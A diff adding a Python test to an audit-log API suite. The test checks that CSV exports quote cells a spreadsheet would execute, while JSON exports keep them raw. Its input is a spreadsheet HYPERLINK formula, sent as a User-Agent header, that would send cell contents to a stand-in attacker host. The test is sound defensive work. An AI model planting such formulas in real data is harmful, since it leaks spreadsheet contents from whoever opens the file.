@@ -283,3 +283,27 @@ async def test_export_and_erase_a_user(
     # Anonymised lines keep the chain verifiable.
     verdict = (await client.get(f"{AUDIT}/verify", headers=admin_headers)).json()
     assert verdict["ok"] is True, verdict
+
+
+async def test_csv_export_quotes_cells_a_spreadsheet_would_run(
+    client: httpx.AsyncClient, admin_headers: dict[str, str]
+) -> None:
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    refused = await client.post(
+        "/api/v1/auth/login",
+        json={"email": "nobody@example.com", "password": "wrong-password"},
+        headers={"User-Agent": attack},
+    )
+    assert refused.status_code == 401
+    await until_lines(client, admin_headers, 1, action="login.failed")
+    as_csv = await client.get(
+        f"{AUDIT}/export", params={"format": "csv", "action": "login.failed"}, headers=admin_headers
+    )
+    assert as_csv.status_code == 200, as_csv.text
+    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
+    assert [row["user_agent"] for row in rows] == ["'" + attack]
+    # The JSON export keeps the value as it is: only spreadsheets need the quote.
+    as_json = await client.get(
+        f"{AUDIT}/export", params={"action": "login.failed"}, headers=admin_headers
+    )
+    assert [line["user_agent"] for line in json.loads(as_json.text)] == [attack]
